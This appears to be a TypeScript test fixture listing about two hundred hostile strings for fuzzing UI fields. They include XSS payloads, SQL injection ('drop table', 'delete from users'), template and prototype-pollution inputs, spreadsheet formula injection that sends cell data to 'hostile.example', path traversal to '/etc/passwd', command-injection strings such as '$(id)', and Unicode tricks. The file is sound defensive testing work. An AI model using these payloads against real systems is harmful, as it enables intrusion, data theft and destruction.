/** Texts that break careless code: for every field, shown on every screen. */

/** One hostile text. */
export interface HostileText {
  /** The kind of attack, e.g. `script`. */
  readonly family: string;
  readonly text: string;
}

/* Code in these sets `__ran` on the window; loads go to `hostile.example`; elements are an `x-hostile`, or of a kind that none of our texts produces. */
const run = '__ran=1';
const elsewhere = '//hostile.example/x';
const point = String.fromCodePoint;

/** Every first with every second. */
const each = (firsts: readonly string[], seconds: readonly string[], of: (a: string, b: string) => string): string[] =>
  firsts.flatMap((first) => seconds.map((second) => of(first, second)));

const script = each(
  ['', '"', "'", '-->', '</title>', '</textarea>', '</script>', '</style>'],
  [`<script>${run}</script>`, `<img src=x onerror=${run}>`, `<x-hostile><svg/onload=${run}>`],
  (before, tag) => `${before}>${tag}`,
);
const attribute = each(
  ['"', "'", '`', ' '],
  [`onfocus=${run} autofocus `, `onmouseover=${run} `, `style=position:fixed;inset:0 onclick=${run} `],
  (quote, handler) => `a${quote} ${handler}x=${quote}`,
);
const address = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `java\tscript:${run}`,
  `${point(1)}javascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+`,
  elsewhere,
  `https:${elsewhere}`,
  `https://youtu.be@hostile.example/dQw4w9WgXcQ`,
  `\\\\hostile.example\\x`,
];
const markup = [
  '<x-hostile>',
  '<style>*{display:none!important}</style>',
  `<base href=${elsewhere}>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<form action=${elsewhere}><button>`,
  `<object data=${elsewhere}></object>`,
  '<!--',
  '<plaintext>',
  ']]>',
  '</body></html>',
  '<template><x-hostile>',
];
const sql = [
  "'",
  '"',
  "' or '1'='1",
  "'; drop table equipment; --",
  "' union select password_hash from users --",
  "1'); delete from users; --",
  '\\',
  "\\'; select pg_sleep(9); --",
  '$$; select 1; $$',
  '%',
  '_%_%_',
  "' || (select version()) || '",
];
const template = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  '%s%n%d%x',
  '{0} {1}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '[object Object]',
  '$& $1 $` $$',
  '{"__proto__":{"isAdmin":true}}',
];
/* Right-to-left text, and what turns round the rest of a line if nothing closes it. */
const direction = [
  ...[0x202e, 0x202d, 0x202b, 0x202a, 0x2067, 0x2068].map((code) => `abc${point(code)}def 123`),
  `${point(0x202e)}gpj.exe`,
  `${point(0x2069)}${point(0x202c)}${point(0x2069)}x`,
  `${point(0x61c)}${point(0x200f)}12-34`,
  '\u05de\u05db\u05d5\u05e0\u05d4 12 (3)',
  '\u0645\u0639\u062f\u0627\u062a \u0644\u0644\u0625\u064a\u062c\u0627\u0631 5%',
  `JCB \u05d0\u05d1\u05d2 3DX \u05d3\u05d4\u05d5!`,
  point(0x202e).repeat(40) + 'deep',
];
const unseen = [
  point(0x200b).repeat(5),
  point(0x2060).repeat(40),
  point(0xfeff) + 'mark',
  `a${point(0x200b)}b${point(0x200c)}c${point(0x200d)}d`,
  `soft${point(0xad).repeat(30)}hyphen`,
  `select${point(0xfe0f).repeat(20)}or`,
  `tag${point(0xe0041, 0xe0042, 0xe0043)}s`,
  point(0x3164).repeat(6),
  point(0x2800).repeat(6),
  ' \u00a0 \u2003 ',
];
const piled = [1, 5, 20, 50, 100, 200].flatMap((count) => [
  `Z${point(0x335).repeat(count)}a${point(0x30d).repeat(count)}`,
  `\u0e01${point(0xe49).repeat(count)}`,
]);
const emoji = [
  '\u{1f69c}',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u{1f1ee}\u{1f1f3}',
  '\u{1f44d}\u{1f3fd}',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
  '\u{1f69c}'.repeat(50),
  '\ud83d',
  'a\udc00b',
  '\u{1f9d1}\u200d\u{1f527}'.repeat(20),
  '1\ufe0f\u20e3',
];
const long = [
  'W'.repeat(60),
  'm'.repeat(119),
  'i'.repeat(500),
  'W'.repeat(1000),
  point(0xfdfd).repeat(30),
  '\u2e3b'.repeat(40),
  '_'.repeat(100),
  'a\u00a0'.repeat(50),
  '\u6a5f'.repeat(100),
  '\u0915\u094d\u0937'.repeat(30),
  'https://www.example.in/'.padEnd(118, 'a/'),
  '9'.repeat(80),
];
const endless = ['a', 'a b ', '<b>', '\n', '\u{1f69c}', `o${point(0x301)}`].map((piece) =>
  piece.repeat(Math.ceil(10_000 / piece.length)),
);
const formula = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '=HYPERLINK("https://hostile.example/x?"&A1,"more")',
  '=IMPORTXML("https://hostile.example/x","//a")',
  '\t=1+1',
  '\r=1+1',
  '";=1+1;"',
  '\uff1d1+1',
  '\uff20SUM(1)',
  '|calc',
  '=1+1"\r\n=2+2',
];
const control = [0, 1, 0xb, 0xc, 0x1b, 0x7f, 0x85, 0x9b, 0x2028, 0x2029, 0xfffe, 0xffff].map(
  (code) => `con${point(code)}trol`,
);
const lines = [
  'one\ntwo',
  'one\r\nSet-Cookie: a=b',
  '\n'.repeat(50) + 'deep',
  'a\rb',
  'a\n\n\n\nb\n',
  '\n<x-hostile>\n',
];
const entity = [
  '&lt;script&gt;',
  `&#x3c;script&#x3e;${run}`,
  '&amp;amp;',
  '&nbsp;&zwnj;&',
  `%3Cscript%3E${run}`,
  `\\u003cscript\\u003e${run}`,
  `\\x3cscript\\x3e${run}`,
  '&NewLine;&Tab;&colon;',
];
const path = [
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'C:\\CON',
  '/',
  '.',
  '..',
  '$(id)',
  '`id`',
  '; id #',
  '?a=b&c=d#e',
];

const families = {
  script,
  attribute,
  address,
  markup,
  sql,
  template,
  direction,
  unseen,
  piled,
  emoji,
  long,
  endless,
  formula,
  control,
  lines,
  entity,
  path,
} as const;

/** Two hundred, by family. */
export const hostileTexts: readonly HostileText[] = Object.entries(families).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text })),
);

/** The first of every family. */
export const someHostileTexts: readonly HostileText[] = Object.entries(families).map(([family, [text = '']]) => ({
  family,
  text,
}));
